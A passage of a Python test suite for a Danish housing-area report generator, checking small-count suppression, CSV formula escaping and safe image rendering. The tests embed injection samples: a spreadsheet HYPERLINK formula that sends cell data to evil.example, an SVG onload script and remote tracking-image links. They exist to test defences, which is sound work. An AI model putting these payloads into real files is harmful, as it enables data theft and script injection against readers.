    if hidden:
        res = runner.invoke(app, ["status", "--data", t["fil"], "--format", "csv", "--uden-diskretionering"])
        full = {x["omraade"]: x for x in csv.DictReader(io.StringIO(res.stdout)) if x["indikator"] == ind}
        assert full[hidden[0]]["vaerdi"] != "" and "diskretionering" not in full[hidden[0]]


@pytest.mark.parametrize("t,k", LISTE_TILFAELDE, ids=[" ".join(k["kommando"][3:]) for _, k in LISTE_TILFAELDE])
def test_corpus_file_in_lister(i_korpus, t, k):
    args = [t["fil"] if a == "FIL" else a for a in k["kommando"]]
    res = runner.invoke(app, args)
    assert res.exit_code == 0, res.output
    if "linje" in k:
        assert k["linje"] in res.stdout.splitlines(), res.stdout
        return
    row = next(x for x in csv.DictReader(io.StringIO(res.stdout))
               if x["omraade"] == k["omraade"] and x["liste_aar"] == k["aar"])
    assert {f: row[f] for f in k["felter"]} == k["felter"]


def test_the_list_section_honours_the_threshold_and_the_switch(i_korpus):
    """The list section hid shares on small counts at 5 always; it follows --graense and
    --uden-diskretionering as every other section, and says what its title block says."""
    from helhedsanalyse.report import Rapport

    for graense, paa, vist in ((5, True, True), (10, True, False), (10, False, True)):
        r = Rapport.load("slut", ["=lister_formel.csv"], diskretionering=paa, diskretionering_graense=graense)
        html_text = r.listeafsnit("motalavej").data
        krit = html_text.split("Kriterierne: værdi og afstand til grænsen")[1].split("</table>")[0]
        assert ("0,35\u00a0%" in krit) is vist, (graense, paa)
        assert ("(diskretioneret)" in krit) is not vist, (graense, paa)
        assert ("0,35" in html_text) is vist, "nor in the explanation or the distance"
        if not vist:
            assert f"under {graense} (diskretionering)" in html_text
            assert f"antal under {graense}" in r.om_rapporten("O").data


# --------------------------------------------------------------------------- (4) safe outputs


def test_csv_cells_excel_would_run_start_with_an_apostrophe():
    import pandas as pd

    from helhedsanalyse.core.formatting import csv_celle, csv_tekst

    for bad in ("=1+1", "+cmd", "-2+3", "@SUM(A1)", "\tx", "\rx", '=HYPERLINK("http://x","y")'):
        assert csv_celle(bad) == "'" + bad
    for good in ("ok", "-3", "+2,5", "1.5e3", "", " =x", 12, -3.5, None):
        assert csv_celle(good) == good
    frame = pd.DataFrame({"tal": [-1.5, 2.0], "tekst": ["=1+1", "-1"], "=kolonne": ["a", "b"]})
    assert csv_tekst(frame).splitlines() == ["tal,tekst,'=kolonne", "-1.5,'=1+1,a", "2.0,-1,b"]


def test_status_csv_writes_the_evaluators_formula_as_text():
    """The issue's case: a begrundelse beginning =HYPERLINK(...) was a live formula for Excel."""
    f = Path(__file__).parent / "filer" / "vurderinger_formel.csv"
    res = runner.invoke(app, ["status", "--data", str(KORPUS / "diskretionering_komplement.csv"), "--data", str(f),
                              "--format", "csv"])
    assert res.exit_code == 0, res.output
    rows = {x["omraade"]: x for x in csv.DictReader(io.StringIO(res.stdout)) if x["kriterium"] == "kp_beboerindflydelse"}
    assert rows["motalavej"]["begrundelse"] == '\'=HYPERLINK("http://evil.example/?d="&A1,"Se kilde")'
    assert rows["ringparken"]["begrundelse"] == "'@SUM(1+1) beboerne deltager"
    assert rows["sydbyen"]["begrundelse"] == "'-2+3 møder aflyst"
    assert rows["skaelskoer"]["begrundelse"] == "'+1 ny beboergruppe"
    assert rows["motalavej"]["vurdering"] == "opfyldt"
    # no cell of the file starts with a formula character unless it is a plain number
    for row in csv.reader(io.StringIO(res.stdout)):
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")) and not re.match(r"-(?![\d.])", cell), cell
    # JSON is not a spreadsheet: the text is kept as written
    res = runner.invoke(app, ["status", "--data", str(f), "--format", "json"])
    rec = next(x for x in json.loads(res.stdout) if x["kriterium"] == "kp_beboerindflydelse" and x["omraade"] == "motalavej")
    assert rec["begrundelse"] == '=HYPERLINK("http://evil.example/?d="&A1,"Se kilde")'


#: A 1 × 1 PNG.
PNG = bytes.fromhex("89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c636000"
                    "0002000154a24f5d0000000049454e44ae426082")


def test_findings_show_images_only_from_files_beside_them_and_never_fetch_one(tmp_path, monkeypatch):
    import nbformat

    from helhedsanalyse.render import notebook_to_html

    folder = tmp_path / "fund"
    (folder / "billeder").mkdir(parents=True)
    (folder / "diagram.png").write_bytes(PNG)
    (folder / "billeder" / "møde.png").write_bytes(PNG)
    (folder / "falsk.png").write_text("<svg onload=alert(1)>", encoding="utf-8")
    (tmp_path / "hemmelig.png").write_bytes(PNG)
    fund = folder / "fund.md"
    fund.write_text(
        "# Fund\nRunde: slut\n\n## Anbefalinger\n\n![Organisationen](diagram.png)\n\n![Mødet](billeder/møde.png)\n\n"
        "![Sporing](http://evil.example/spor.png?id=1)\n\n![](https://evil.example/b.png)\n\n"
        '<img src="http://evil.example/raa.png">\n\n![Uden for](../hemmelig.png)\n\n![Falsk](falsk.png)\n\n'
        "![Findes ikke](mangler.png)\n\n![Data](data:image/png;base64,AAAA)\n", encoding="utf-8")
    # the check refuses such a file before any report is made (tests/tilfaelde/fund.yaml); the renderer
    # itself still never shows an image that is not a file beside the Markdown file
    from IPython.display import HTML

    from helhedsanalyse.inputs.fund import laes_fund
    from helhedsanalyse.report.fund import markdown_sikker

    assert [p.linje for p in laes_fund(fund).problems] == [10, 12, 16, 18, 20, 22]  # the six it cannot show
    shown = [HTML(str(markdown_sikker(fund.read_text(encoding="utf-8"), folder)))]
    (md,) = shown
    p = _Markup()
    p.feed(md.data)
    data_uri = "data:image/png;base64," + base64.b64encode(PNG).decode("ascii")
    assert [(t, a["src"], a["alt"]) for t, a in p.tags if t == "img"] == [
        ("img", data_uri, "Organisationen"), ("img", data_uri, "Mødet")]
    assert not [a for _, a in p.tags if any("evil.example" in v for v in a.values())], "nothing points to the network"
    text = page_text(md.data)
    nettet = ("rapporten henter aldrig billeder fra nettet eller andre adresser; læg billedfilen ved siden af "
              "Markdown-filen og skriv dens navn")
    for note in (
        f"[Billedet “Sporing” (http://evil.example/spor.png?id=1) er udeladt: {nettet}.]",
        f"[Et billede (https://evil.example/b.png) er udeladt: {nettet}.]",
        "[Billedet “Uden for” (../hemmelig.png) er udeladt: billedfilen ligger ikke ved siden af Markdown-filen "
        "(eller i en mappe under den).]",
        "[Billedet “Falsk” (falsk.png) er udeladt: filen er ikke et png-billede.]",
        "[Billedet “Findes ikke” (mangler.png) er udeladt: billedfilen findes ikke ved siden af Markdown-filen.]",
        f"[Billedet “Data” (data:image/png;base64,AAAA) er udeladt: {nettet}.]",
    ):
        assert note in text, note
    assert '<img src="http://evil.example/raa.png">' in text, "raw HTML is shown as text"
    nb = nbformat.v4.new_notebook()
    cell = nbformat.v4.new_code_cell("")
    cell.outputs = [nbformat.v4.new_output("display_data", data={"text/html": md.data, "text/plain": ""})]
    nb.cells = [cell]
    page = notebook_to_html(nb, "fund")
    assert executable_markup(page) == []
    assert "evil.example/spor.png" not in re.sub(r">[^<]*<", "><", page), "no remote address outside the text"


# --------------------------------------------------------------------------- (3) on the rendered set of shipped data


class _Blocks(HTMLParser):
    """The sequence of <h3> headings and tables (header + rows of cell texts) of a page."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.items: list[tuple[str, object]] = []
        self._h3: list[str] | None = None
        self._table: list[list[str]] | None = None
        self._cell: list[str] | None = None
        self._dt: str | None = None
        self.felter: dict[str, str] = {}
        self._in = None

    def handle_starttag(self, tag, attrs):
        if tag == "h3":
            self._h3 = []
        elif tag == "table":
            self._table = []
        elif tag == "tr" and self._table is not None:
            self._table.append([])
        elif tag in ("td", "th") and self._table is not None:
            self._cell = []
        elif tag in ("dt", "dd"):
            self._in, self._buf = tag, []

    def handle_endtag(self, tag):
        if tag == "h3" and self._h3 is not None:
            self.items.append(("h3", " ".join("".join(self._h3).split())))
            self._h3 = None
        elif tag in ("td", "th") and self._cell is not None and self._table:
            self._table[-1].append(" ".join("".join(self._cell).split()))
            self._cell = None
        elif tag == "table" and self._table is not None:
            self.items.append(("table", [r for r in self._table if r]))
            self._table = None
        elif tag in ("dt", "dd") and self._in == tag:
            text = " ".join("".join(self._buf).split())
            if tag == "dt":
                self._dt = text
            elif self._dt:
                self.felter[self._dt] = text
            self._in = None

    def handle_data(self, data):
        if self._h3 is not None:
            self._h3.append(data)
        if self._cell is not None:
            self._cell.append(data)
        if self._in:
            self._buf.append(data)


def _blocks(path: Path) -> _Blocks:
    p = _Blocks()
    p.feed(path.read_text(encoding="utf-8"))
    p.close()
    return p


def _tal(text: str) -> float | None:
    """A Danish number at the start of a cell (``1.250``, ``72,4 %``, ``12 / 50`` -> 12), else None."""
    m = re.match(r"^-?\d{1,3}(?:\.\d{3})*(?:,\d+)?|^-?\d+(?:,\d+)?", text.strip())
    if not m:
        return None
    return float(m.group(0).replace(".", "").replace(",", "."))


def _value_tables(path: Path, plan) -> list[tuple[str, str, list[dict[str, str]]]]:
    """(indicator id, area id, rows) for every value table under a criterion heading of an area report."""
    by_name = {i.navn: i.id for i in plan.indikatorer}
    area_by_name = {o.navn: o.id for o in plan.omraader}
    out = []
    heading = None
    for kind, item in _blocks(path).items:
        if kind == "h3":
            heading = item
            continue
        if heading is None or " – " not in heading:
            continue
        title, area = heading.rsplit(" – ", 1)
        rows = item
        if title in by_name and area in area_by_name and rows and rows[0][:2] == ["År", "Værdi"]:
            out.append((by_name[title], area_by_name[area], [dict(zip(rows[0], r)) for r in rows[1:]]))
            heading = None
    return out


@pytest.fixture(scope="module")
def masker():
    from helhedsanalyse.report import Rapport

    return {runde: Rapport.load(runde).maske for runde in ("midtvej", "slut")}


def test_every_rendered_report_says_which_rule_was_applied(rendered, rapportfil):
    felter = _blocks(rendered / rapportfil.rel).felter
    assert felter.get("Diskretionering") == disk.tekst(disk.GRAENSE), rapportfil.rel


def test_rendered_area_reports_show_no_small_count_and_hide_every_suppressed_cell(rendered, masker, alle_rapporter):
    plan = load_plan()
    g = disk.GRAENSE
    checked = hidden_seen = 0
    for f in alle_rapporter:
        if f.notebook not in ("omraade", "indsatsomraade"):
            continue
        maske = masker[f.runde]
        for ind_id, omraade, rows in _value_tables(rendered / f.rel, plan):
            ind = plan.indikator[ind_id]
            for row in rows:
                key = (omraade, ind_id, int(row["År"]))
                cells = [row["Værdi"], row.get("Tæller/nævner", "")]
                if key in maske:
                    hidden_seen += 1
                    assert row["Værdi"] in (f"<{g}", "(diskretioneret)"), (f.rel, key, row)
                    assert row.get("Tæller/nævner", "") in ("", f"<{g}", "(diskretioneret)"), (f.rel, key, row)
                    continue
                if not ind.foelsom:
                    continue
                checked += 1
                numbers = [_tal(c) for c in cells[1].split("/")] if cells[1] else []
                if ind.enhed == "antal":
                    numbers.append(_tal(cells[0]))
                small = [n for n in numbers if n is not None and 0 < n < g]
                assert not small, f"{f.rel}: {ind_id} {omraade} {row['År']} shows a count below {g}: {row}"
    assert checked > 50, "the sweep found the value tables"
    if any(m for m in masker.values()):
        assert hidden_seen, f"no suppressed cell was found in the reports: {masker}"


def test_rendered_delivery_and_comparison_tables_show_no_small_count(rendered, alle_rapporter):
    plan = load_plan()
    g = disk.GRAENSE
    foelsomme_navne = {i.navn for i in plan.indikatorer if i.foelsom}
    for f in alle_rapporter:
        items = _blocks(rendered / f.rel).items
        for kind, rows in items:
            if kind != "table" or not rows:
                continue
            head = rows[0]
            if head[:3] == ["Aktivitet", "Område", "K1"]:  # the delivery table
                current = None
                for r in rows[1:]:
                    c = dict(zip(head, r))
                    current = c["Aktivitet"] or current
                    if current not in foelsomme_navne:
                        continue
                    for k in ("K1", "K2", "K3", "K4", "År til dato"):
                        n = _tal(c.get(k, ""))
                        assert n is None or not 0 < n < g, f"{f.rel}: {current} {c['Område']} {k} = {c[k]}"
            if head[:3] == ["Indikator", "Værdi", "Baseline"]:  # the comparison table
                for r in rows[1:]:
                    c = dict(zip(head, r))
                    ind = next((i for i in plan.indikatorer if i.navn == c["Indikator"]), None)
                    if ind is None or not ind.foelsom or ind.enhed != "antal":
                        continue
                    for k in ("Værdi", "Baseline"):
                        n = _tal(c[k])
                        assert n is None or not 0 < n < g, f"{f.rel}: {ind.id} {k} = {c[k]}"
